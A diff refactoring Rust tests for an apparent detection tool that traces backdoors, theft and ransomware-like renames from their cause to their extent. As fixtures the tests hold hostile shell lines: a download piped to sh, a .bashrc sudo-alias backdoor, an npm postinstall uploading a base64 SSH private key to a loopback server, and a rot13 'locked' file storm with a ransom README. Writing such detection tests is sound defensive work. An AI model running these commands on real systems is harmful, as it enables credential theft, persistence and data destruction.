@@ -5,7 +5,7 @@ use backstory_testkit::need::needs;
 use serde_json::Value;
 
 use super::Place;
-use super::hunt::{LoopbackServer, found, npm};
+use super::hunt::{LoopbackServer, npm, only_found};
 
 fn names(files: &Value) -> Vec<&str> {
     files
@@ -18,38 +18,32 @@ fn names(files: &Value) -> Vec<&str> {
 
 #[test]
 fn a_backdoor_that_a_build_script_downloads_is_told_from_its_cause_to_its_extent() {
-    if !needs("a client", &["bash"]) {
+    let answer = "echo 'alias sudo=x' >> .bashrc\nfor i in 1 2 3 4; do echo > a$i; done; rm a*\n\
+         date > marker; rm marker; date > marker\n";
+    let Some((place, server)) = LoopbackServer::at_place(1, answer) else {
         return;
-    }
-    let place = Place::new();
-    let server = LoopbackServer::new(
-        1,
-        "echo 'alias sudo=x' >> .bashrc\nfor i in 1 2 3 4; do echo > a$i; done; rm a*\n\
-         date > marker; rm marker; date > marker\n",
-    );
+    };
     let build = format!(
         "echo building; {} > stage.sh\nsh stage.sh\n",
         server.download()
     );
     place.write("build.sh", &build);
     let run = place.record("sh build.sh");
+    let address = server.address();
     server.end();
-    let all = found(&place, &run, "startup-file-written");
-    assert_eq!(all.len(), 1, "{all:?}");
-    let finding = &all[0];
+    let finding = only_found(&place, &run, "startup-file-written");
     assert_eq!(finding["cause_file"], place.path("stage.sh"));
     assert_eq!(
         finding["cause"]["argv"],
         serde_json::json!(["sh", "stage.sh"])
     );
-    let origin = finding["cause_origin"].as_str().unwrap();
-    assert!(origin.starts_with("tcp:127.0.0.1:"), "{origin}");
+    assert_eq!(finding["cause_origin"], address);
     let changed = names(&finding["extent"]["changed"]);
     let all = [".bashrc", "a1", "a2", "a3", "a4", "marker"].map(|name| place.path(name));
     assert_eq!(changed, all);
     // The file that the run removed was made by the run, too.
     assert!(names(&finding["extent"]["removed"]).is_empty(), "{finding}");
-    assert_eq!(found(&place, &run, "download-run-by-shell").len(), 1);
+    only_found(&place, &run, "download-run-by-shell");
     let text = place.run(&["hunt", &run]).out;
     // The files that are still there come first.
     let [first, temporary, .., last] = &all;
@@ -68,13 +62,11 @@ fn a_backdoor_that_a_build_script_downloads_is_told_from_its_cause_to_its_extent
 
 #[test]
 fn a_shell_that_follows_a_download_is_told_from_the_address_to_what_it_made() {
-    if !needs("a client", &["bash"]) {
+    let answer = "echo 'alias sudo=x' >> .bashrc; date > marker\n";
+    let Some((place, server)) = LoopbackServer::at_place(2, answer) else {
         return;
-    }
-    let place = Place::new();
-    let server = LoopbackServer::new(2, "echo 'alias sudo=x' >> .bashrc; date > marker\n");
-    let load = server.download();
-    let address = format!("tcp:127.0.0.1:{}", server.port);
+    };
+    let (load, address) = (server.download(), server.address());
     place.write(
         "install.sh",
         &format!("date > other\n{load} | sh -s -- -y\n"),
@@ -84,9 +76,7 @@ fn a_shell_that_follows_a_download_is_told_from_the_address_to_what_it_made() {
     server.end();
     for (run, shell) in runs.iter().zip([&["sh"][..], &["sh", "-s", "--", "-y"]]) {
         for rule in ["startup-file-written", "download-run-by-shell"] {
-            let all = found(&place, run, rule);
-            assert_eq!(all.len(), 1, "{all:?}");
-            let finding = &all[0];
+            let finding = only_found(&place, run, rule);
             assert_eq!(finding["cause"]["argv"], serde_json::json!(shell));
             assert_eq!(finding["cause_file"], Value::Null, "{finding}");
             assert_eq!(finding["cause_origin"], address);
@@ -104,13 +94,11 @@ fn a_shell_that_follows_a_download_is_told_from_the_address_to_what_it_made() {
 
 #[test]
 fn a_text_for_a_shell_possibly_came_from_what_the_shell_above_read_last() {
-    if !needs("a client", &["bash"]) {
+    let answer = "echo 'alias sudo=x' >> .bashrc\n";
+    let Some((place, server)) = LoopbackServer::at_place(3, answer) else {
         return;
-    }
-    let place = Place::new();
-    let server = LoopbackServer::new(3, "echo 'alias sudo=x' >> .bashrc\n");
-    let load = server.download();
-    let address = format!("tcp:127.0.0.1:{}", server.port);
+    };
+    let (load, address) = (server.download(), server.address());
     let lines = [
         format!("sh -c \"$({load})\"; true"),
         // The shell above wrote this text itself, or got it from something else.
@@ -121,10 +109,13 @@ fn a_text_for_a_shell_possibly_came_from_what_the_shell_above_read_last() {
     server.end();
     let origins = [Value::from(address), Value::Null, Value::Null];
     for ((line, run), origin) in lines.iter().zip(&runs).zip(&origins) {
-        let all = found(&place, run, "startup-file-written");
-        assert_eq!(all.len(), 1, "{line}: {all:?}");
-        assert_eq!(all[0]["cause_origin"], *origin, "{line}");
-        assert_eq!(all[0]["cause_origin_possible"], !origin.is_null(), "{line}");
+        let finding = only_found(&place, run, "startup-file-written");
+        assert_eq!(finding["cause_origin"], *origin, "{line}");
+        assert_eq!(
+            finding["cause_origin_possible"],
+            !origin.is_null(),
+            "{line}"
+        );
     }
     let text = place.run(&["hunt", &runs[0]]).out;
     assert!(text.contains("  (possibly from tcp:127.0.0.1:"), "{text}");
@@ -149,9 +140,7 @@ fn a_backdoor_in_a_build_is_told_from_its_payload_to_what_used_the_result() {
     );
     let later = place.record("cat app > deployed; cat util.c > unused");
     place.record("cat util.c > other");
-    let all = found(&place, &run, "startup-file-written");
-    assert_eq!(all.len(), 1, "{all:?}");
-    let finding = &all[0];
+    let finding = only_found(&place, &run, "startup-file-written");
     assert_eq!(finding["cause_file"], place.path("configure.sh"));
     assert_eq!(finding["cause_input"], place.path("tests.dat"));
     let extent = &finding["extent"];
@@ -189,14 +178,13 @@ fn a_file_that_the_caller_redirected_output_to_comes_last_in_an_extent() {
 
 #[test]
 fn a_theft_by_an_install_script_is_told_from_its_cause_to_its_extent() {
-    if !needs("a client", &["bash"]) {
+    let Some((place, server)) = LoopbackServer::at_place(1, "") else {
         return;
-    }
-    let place = Place::new();
-    let server = LoopbackServer::new(1, "");
+    };
     let script = format!("cat .ssh/id_ed25519 | base64 | {}\n", server.upload());
     npm(&place, &script);
     let run = place.record("./npm install");
+    let address = server.address();
     server.end();
     let mut rules = Vec::new();
     for finding in place.json(&["hunt", &run, "--json"]).as_array().unwrap() {
@@ -207,11 +195,7 @@ fn a_theft_by_an_install_script_is_told_from_its_cause_to_its_extent() {
                 place.path("package/postinstall.sh"),
                 "{finding}"
             );
-            let sent = names(&finding["extent"]["sent_to"]);
-            assert!(
-                sent.len() == 1 && sent[0].starts_with("tcp:127.0.0.1:"),
-                "{sent:?}"
-            );
+            assert_eq!(names(&finding["extent"]["sent_to"]), [&address]);
         }
     }
     // The most serious first.
@@ -229,12 +213,11 @@ fn a_storm_of_renames_is_told_from_its_cause_to_its_extent() {
         "for f in doc*; do tr a-z n-za-m < $f > $f.locked; rm $f; done; echo pay > README\n",
     );
     let run = place.record("sh lock.sh");
-    let all = found(&place, &run, "rename-storm");
-    assert_eq!(all.len(), 1, "{all:?}");
-    assert_eq!(all[0]["cause_file"], place.path("lock.sh"));
-    assert_eq!(all[0]["cause_input"], Value::Null);
-    assert_eq!(names(&all[0]["extent"]["removed"]).len(), 30);
-    assert_eq!(names(&all[0]["extent"]["changed"]).len(), 31);
+    let finding = only_found(&place, &run, "rename-storm");
+    assert_eq!(finding["cause_file"], place.path("lock.sh"));
+    assert_eq!(finding["cause_input"], Value::Null);
+    assert_eq!(names(&finding["extent"]["removed"]).len(), 30);
+    assert_eq!(names(&finding["extent"]["changed"]).len(), 31);
 }
 
 #[test]
@@ -248,17 +231,16 @@ fn the_script_of_a_package_is_the_cause_and_not_that_of_its_installer() {
     place.write("lib/site-packages/hook.py", hook);
     place.write("setup.py", "open('.bashrc', 'a').write('x')\n");
     let run = place.record("python3 lib/site-packages/hook.py");
-    let all = found(&place, &run, "startup-file-written");
-    assert_eq!(all.len(), 1, "{all:?}");
-    assert_eq!(all[0]["cause_file"], place.path("setup.py"));
+    let finding = only_found(&place, &run, "startup-file-written");
+    assert_eq!(finding["cause_file"], place.path("setup.py"));
     place.write(
         "lib/site-packages/hook.py",
         "open('.bashrc', 'a').write('x')\n",
     );
     let run = place.record("python3 lib/site-packages/hook.py");
-    let all = found(&place, &run, "startup-file-written");
+    let finding = only_found(&place, &run, "startup-file-written");
     assert_eq!(
-        all[0]["cause_file"],
+        finding["cause_file"],
         place.path("lib/site-packages/hook.py")
     );
 }
